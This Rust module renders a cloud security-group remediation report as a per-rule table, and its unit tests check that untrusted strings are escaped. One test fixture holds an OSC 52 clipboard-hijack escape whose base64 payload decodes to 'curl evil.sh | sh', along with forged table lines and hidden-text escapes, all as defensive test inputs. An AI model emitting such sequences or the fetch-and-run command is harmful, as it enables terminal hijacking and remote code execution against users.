//! The human view of a report: group by group, rule by rule, what was revoked (or would be) and
//! what was kept and why. One renderer for `make demo` and the `sg-remediator` command line, so
//! both explain a decision in the same words.
//!
//! It reads the report as JSON (the function's response body, or the command line's report,
//! which has the same shape) plus each group's rules as ECS lists them, before and, when known,
//! after the run. The explanations of kept rules restate the selection rule (inbound, Accept,
//! from the whole internet, on a protocol with ports, opening a risky port); the decision itself
//! is always the report's.
//!
//! Every string the cloud (or a profile) provided (ids, names, descriptions, reasons) passes
//! through [`crate::escape::control`] before it is printed: a group named with terminal escape sequences
//! cannot write to the clipboard (OSC 52), hide text or forge a line of the table.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt::Write as _;

use serde_json::Value;

use crate::escape;
use crate::rules::{Field, RiskyPorts};
use crate::select::{is_world, opens_risky_port};

/// What the renderer knows about one security group besides its report entry.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct GroupRules {
    /// `SecurityGroupName`, empty if unknown.
    pub name: String,
    /// The group's rules before the run, as ECS lists them (`SecurityGroupRuleId`, `Direction`,
    /// `Policy`, `IpProtocol`, `PortRange`, source fields).
    pub before: Vec<Value>,
    /// The group's rules after the run, when they were read again: a revoked rule still there is
    /// flagged, and a skipped or failed group says whether anything changed.
    pub after: Option<Vec<Value>>,
}

/// The per-group, per-rule table for every result of `report`, then a blank line per group.
pub fn report_table(
    report: &Value,
    groups: &BTreeMap<String, GroupRules>,
    risky: &RiskyPorts,
) -> String {
    let mut out = String::new();
    for result in report["results"].as_array().into_iter().flatten() {
        group_table(&mut out, result, groups, risky);
    }
    out
}

/// `Summary: 1 remediated, 2 compliant, …` from the report's `summary`.
pub fn summary_line(report: &Value) -> String {
    let s = &report["summary"];
    format!(
        "Summary: {} remediated, {} compliant, {} would remediate, {} skipped, {} failed",
        s["remediated"], s["compliant"], s["wouldRemediate"], s["skipped"], s["failed"]
    )
}

fn text<'a>(v: &'a Value, key: &str) -> &'a str {
    v[key].as_str().unwrap_or("")
}

fn ids(v: &Value, key: &str) -> Vec<String> {
    v[key]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn group_table(
    out: &mut String,
    result: &Value,
    groups: &BTreeMap<String, GroupRules>,
    risky: &RiskyPorts,
) {
    let id = text(result, "resourceId");
    let status = text(result, "status");
    let group = groups.get(id);
    let name = group.map_or("", |g| g.name.as_str());
    let kind = text(result, "resourceType");
    let title = if kind == "ACS::ECS::SecurityGroup" || kind.is_empty() {
        format!("{id}  {name}")
    } else {
        format!("{id}  ({kind})")
    };
    let _ = writeln!(
        out,
        "== {}  [{}]",
        escape::control(&title),
        escape::control(&status.to_uppercase())
    );
    let reason = escape::control(text(result, "reason"));
    let before: &[Value] = group.map_or(&[], |g| g.before.as_slice());
    let after = group.and_then(|g| g.after.as_ref());
    if matches!(status, "skipped" | "failed") {
        let _ = writeln!(out, "   {reason}");
        if let Some(after) = after {
            let unchanged = after.as_slice() == before;
            let _ = writeln!(
                out,
                "   {}",
                if unchanged {
                    "no rule was changed"
                } else {
                    "WARNING: the group's live rules changed"
                }
            );
        }
        out.push('\n');
        return;
    }
    let revoked = ids(result, "revokedRuleIds");
    let shadowed = ids(result, "shadowedRuleIds");
    let review = ids(result, "reviewRuleIds");
    let drift = ids(result, "driftRuleIds");
    let would = ids(result, "wouldRevokeRuleIds");
    let live_now: Option<Vec<&str>> = after.map(|rules| {
        rules
            .iter()
            .map(|r| text(r, Field::SecurityGroupRuleId.name()))
            .collect()
    });
    let narrowed = narrowings(result, "narrowedRules");
    let would_narrow = narrowings(result, "wouldNarrowRules");
    let mut added_rows: Vec<[String; 4]> = Vec::new();
    let mut rows: Vec<[String; 4]> = before
        .iter()
        .map(|rule| {
            let rid = text(rule, Field::SecurityGroupRuleId.name()).to_string();
            let verdict = if revoked.contains(&rid) {
                let still_there = live_now
                    .as_ref()
                    .is_some_and(|live| live.contains(&rid.as_str()));
                let gone = if still_there {
                    " (STILL PRESENT)"
                } else {
                    "; verified gone"
                };
                match narrowed.iter().find(|(original, _)| *original == rid) {
                    Some((_, added)) => {
                        for a in added {
                            added_rows.push([
                                text(a, Field::SecurityGroupRuleId.name()).to_string(),
                                describe(a),
                                source(a),
                                format!("ADDED: replaces {rid}"),
                            ]);
                        }
                        format!("NARROWED to {}{gone}", sources_of(added))
                    }
                    None => format!("REVOKED: open to the internet on a risky port{gone}"),
                }
            } else if would.contains(&rid) {
                match would_narrow.iter().find(|(original, _)| *original == rid) {
                    Some((_, added)) => {
                        for a in added {
                            added_rows.push([
                                "(new)".to_string(),
                                describe(a),
                                source(a),
                                format!("WOULD ADD (dry run): replaces {rid}"),
                            ]);
                        }
                        format!("WOULD NARROW to {} (dry run)", sources_of(added))
                    }
                    None => "WOULD REVOKE (dry run)".to_string(),
                }
            } else {
                let why = if shadowed.contains(&rid) {
                    "denied first by a higher-priority Drop rule (shadowed)".to_string()
                } else if review.contains(&rid) {
                    "source is a prefix list: cannot be judged, check it by hand".to_string()
                } else {
                    why_kept(rule, risky)
                };
                let drifted = if drift.contains(&rid) {
                    "; Config's snapshot still shows it open to the world (stale): live state wins"
                } else {
                    ""
                };
                format!("kept: {why}{drifted}")
            };
            [rid, describe(rule), source(rule), verdict]
        })
        .collect();
    rows.extend(added_rows);
    let rows: Vec<[String; 4]> = rows
        .into_iter()
        .map(|row| {
            row.map(|cell| match escape::control(&cell) {
                Cow::Borrowed(_) => cell,
                Cow::Owned(clean) => clean,
            })
        })
        .collect();
    rows_table(out, &rows);
    if !reason.is_empty() {
        let _ = writeln!(out, "   note: {reason}");
    }
    out.push('\n');
}

/// The entries of a result's `narrowedRules` / `wouldNarrowRules`: each original's id and the
/// rules added (or to add) in its place.
fn narrowings(result: &Value, key: &str) -> Vec<(String, Vec<Value>)> {
    result[key]
        .as_array()
        .into_iter()
        .flatten()
        .map(|n| {
            (
                text(&n["original"], Field::SecurityGroupRuleId.name()).to_string(),
                n["added"].as_array().cloned().unwrap_or_default(),
            )
        })
        .collect()
}

/// `203.0.113.0/24, 2001:db8::/32`: the sources of the rules a narrowing adds.
fn sources_of(added: &[Value]) -> String {
    let sources: Vec<&str> = added
        .iter()
        .map(|a| {
            let v4 = text(a, Field::SourceCidrIp.name());
            if v4.is_empty() {
                text(a, Field::Ipv6SourceCidrIp.name())
            } else {
                v4
            }
        })
        .collect();
    if sources.is_empty() {
        "sources the group already allowed".to_string()
    } else {
        sources.join(", ")
    }
}

/// `ingress accept TCP 22/22` etc.
fn describe(rule: &Value) -> String {
    format!(
        "{} {} {} {}",
        text(rule, Field::Direction.name()),
        text(rule, Field::Policy.name()).to_lowercase(),
        text(rule, Field::IpProtocol.name()),
        text(rule, Field::PortRange.name())
    )
}

/// Where the rule admits traffic from (or, for egress, to).
fn source(rule: &Value) -> String {
    for (key, prefix) in [
        (Field::SourceCidrIp.name(), "from "),
        (Field::Ipv6SourceCidrIp.name(), "from "),
        (Field::SourceGroupId.name(), "from group "),
        (Field::SourcePrefixListId.name(), "from list "),
        (Field::DestCidrIp.name(), "to "),
        (Field::Ipv6DestCidrIp.name(), "to "),
    ] {
        let v = text(rule, key);
        if !v.is_empty() {
            return format!("{prefix}{v}");
        }
    }
    String::new()
}

/// Why a rule that was not revoked (and not listed as shadowed or for review) is fine, in the
/// terms of the selection rule.
fn why_kept(rule: &Value, risky: &RiskyPorts) -> String {
    let protocol = text(rule, Field::IpProtocol.name()).to_ascii_uppercase();
    if !text(rule, Field::Direction.name()).eq_ignore_ascii_case("ingress") {
        "outbound rule (only inbound rules are remediated)".into()
    } else if text(rule, Field::Policy.name()).eq_ignore_ascii_case("drop") {
        "Drop rule (it denies traffic)".into()
    } else if !text(rule, Field::SourceGroupId.name()).is_empty() {
        "source is another security group, not the internet".into()
    } else if !is_world(text(rule, Field::SourceCidrIp.name()))
        && !is_world(text(rule, Field::Ipv6SourceCidrIp.name()))
    {
        "source is not the whole internet".into()
    } else if !matches!(protocol.as_str(), "TCP" | "UDP" | "ALL") {
        format!("{protocol} has no ports")
    } else if !opens_risky_port(text(rule, Field::PortRange.name()), risky) {
        format!("opens no risky port ({risky})")
    } else {
        "not selected by the rule selector".into()
    }
}

fn rows_table(out: &mut String, rows: &[[String; 4]]) {
    let mut width = [0usize; 3];
    for row in rows {
        for (w, cell) in width.iter_mut().zip(row.iter()) {
            *w = (*w).max(cell.chars().count());
        }
    }
    for [id, rule, from, verdict] in rows {
        let _ = writeln!(
            out,
            "   {id:<w0$}  {rule:<w1$}  {from:<w2$}  {verdict}",
            w0 = width[0],
            w1 = width[1],
            w2 = width[2]
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rule(id: &str, cidr: &str, ports: &str) -> Value {
        json!({"SecurityGroupRuleId": id, "Direction": "ingress", "Policy": "Accept",
               "IpProtocol": "TCP", "PortRange": ports, "SourceCidrIp": cidr})
    }

    #[test]
    fn each_rule_gets_a_row_with_its_verdict() {
        let report = json!({"results": [{
            "resourceId": "sg-1", "resourceType": "ACS::ECS::SecurityGroup",
            "status": "would_remediate", "reason": "dry run: nothing was changed",
            "wouldRevokeRuleIds": ["sgr-a"], "revokedRuleIds": []
        }]});
        let groups = BTreeMap::from([(
            "sg-1".to_string(),
            GroupRules {
                name: "web".into(),
                before: vec![
                    rule("sgr-a", "0.0.0.0/0", "22/22"),
                    rule("sgr-b", "10.0.0.0/8", "22/22"),
                    rule("sgr-c", "0.0.0.0/0", "443/443"),
                ],
                after: None,
            },
        )]);
        let table = report_table(&report, &groups, &"22,3389".parse().unwrap());
        assert!(table.starts_with("== sg-1  web  [WOULD_REMEDIATE]\n"));
        let line = |id: &str| table.lines().find(|l| l.contains(id)).unwrap().to_string();
        assert!(line("sgr-a").ends_with("WOULD REVOKE (dry run)"));
        assert!(line("sgr-b").ends_with("kept: source is not the whole internet"));
        assert!(line("sgr-c").ends_with("kept: opens no risky port (22,3389)"));
        assert!(table.contains("   note: dry run: nothing was changed\n"));
    }

    #[test]
    fn a_narrowed_rule_names_its_sources_and_the_added_rules_get_rows() {
        let added = rule("sgr-new", "203.0.113.0/24", "22/22");
        let report = json!({"results": [{
            "resourceId": "sg-1", "status": "remediated", "revokedRuleIds": ["sgr-a"],
            "narrowedRules": [{"original": rule("sgr-a", "0.0.0.0/0", "22/22"),
                               "added": [added.clone()], "originalRevoked": true}]
        }]});
        let groups = BTreeMap::from([(
            "sg-1".to_string(),
            GroupRules {
                name: String::new(),
                before: vec![rule("sgr-a", "0.0.0.0/0", "22/22")],
                after: Some(vec![added]),
            },
        )]);
        let table = report_table(&report, &groups, &"22".parse().unwrap());
        let line = |id: &str| table.lines().find(|l| l.contains(id)).unwrap().to_string();
        assert!(
            line("sgr-a").ends_with("NARROWED to 203.0.113.0/24; verified gone"),
            "{table}"
        );
        assert!(line("sgr-new").contains("from 203.0.113.0/24"), "{table}");
        assert!(
            line("sgr-new").ends_with("ADDED: replaces sgr-a"),
            "{table}"
        );
    }

    #[test]
    fn a_dry_run_shows_what_a_narrowing_would_add_and_remove() {
        let mut to_add = rule("", "203.0.113.0/24", "22/22");
        to_add
            .as_object_mut()
            .unwrap()
            .remove("SecurityGroupRuleId");
        let report = json!({"results": [{
            "resourceId": "sg-1", "status": "would_remediate", "revokedRuleIds": [],
            "wouldRevokeRuleIds": ["sgr-a"],
            "wouldNarrowRules": [{"original": rule("sgr-a", "0.0.0.0/0", "22/22"),
                                  "added": [to_add]}]
        }]});
        let groups = BTreeMap::from([(
            "sg-1".to_string(),
            GroupRules {
                name: String::new(),
                before: vec![rule("sgr-a", "0.0.0.0/0", "22/22")],
                after: None,
            },
        )]);
        let table = report_table(&report, &groups, &"22".parse().unwrap());
        let line = |id: &str| table.lines().find(|l| l.contains(id)).unwrap().to_string();
        assert!(
            line("sgr-a").ends_with("WOULD NARROW to 203.0.113.0/24 (dry run)"),
            "{table}"
        );
        assert!(
            line("(new)").ends_with("WOULD ADD (dry run): replaces sgr-a"),
            "{table}"
        );
    }

    #[test]
    fn a_revoked_rule_still_listed_afterwards_is_flagged() {
        let report = json!({"results": [{
            "resourceId": "sg-1", "status": "remediated", "revokedRuleIds": ["sgr-a"]
        }]});
        let before = vec![rule("sgr-a", "0.0.0.0/0", "22/22")];
        let groups = BTreeMap::from([(
            "sg-1".to_string(),
            GroupRules {
                name: String::new(),
                before: before.clone(),
                after: Some(before),
            },
        )]);
        let table = report_table(&report, &groups, &"22".parse().unwrap());
        assert!(table.contains("(STILL PRESENT)"), "{table}");
    }

    #[test]
    fn terminal_escapes_and_newlines_from_the_cloud_never_reach_the_table_raw() {
        // A clipboard write (OSC 52) in the group name, a forged "[COMPLIANT]" line in the
        // reason and in a rule id, a colour escape in a rule's source.
        let osc52 = "evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
        let forged = "x\n== sg-1  web  [COMPLIANT]\r";
        let report = json!({"results": [{
            "resourceId": "sg-1", "resourceType": "ACS::ECS::SecurityGroup",
            "status": "remediated", "reason": forged, "revokedRuleIds": []
        }]});
        let mut odd = rule(forged, "0.0.0.0/0", "443/443");
        odd["SourceCidrIp"] = json!("\x1b[8m0.0.0.0/0\x1b[0m");
        let groups = BTreeMap::from([(
            "sg-1".to_string(),
            GroupRules {
                name: osc52.into(),
                before: vec![odd],
                after: None,
            },
        )]);
        let table = report_table(&report, &groups, &"22".parse().unwrap());
        for raw in ['\x1b', '\x07', '\r'] {
            assert!(!table.contains(raw), "{table:?}");
        }
        assert!(
            !table.lines().any(|l| l.starts_with("== sg-1  web")),
            "{table}"
        );
        assert!(table.starts_with("== sg-1  evil\\x1b]52;c;"), "{table}");
        assert!(
            table.contains("x\\n== sg-1  web  [COMPLIANT]\\r"),
            "{table}"
        );
        assert!(table.contains("\\x1b[8m0.0.0.0/0\\x1b[0m"), "{table}");
        // One title line, one rule row, one note, one blank line.
        assert_eq!(table.lines().count(), 4, "{table}");
    }

    #[test]
    fn the_summary_line_counts_every_status() {
        let report = json!({"summary": {"remediated": 1, "compliant": 2, "wouldRemediate": 3,
                                        "skipped": 4, "failed": 5}});
        assert_eq!(
            summary_line(&report),
            "Summary: 1 remediated, 2 compliant, 3 would remediate, 4 skipped, 5 failed"
        );
    }
}
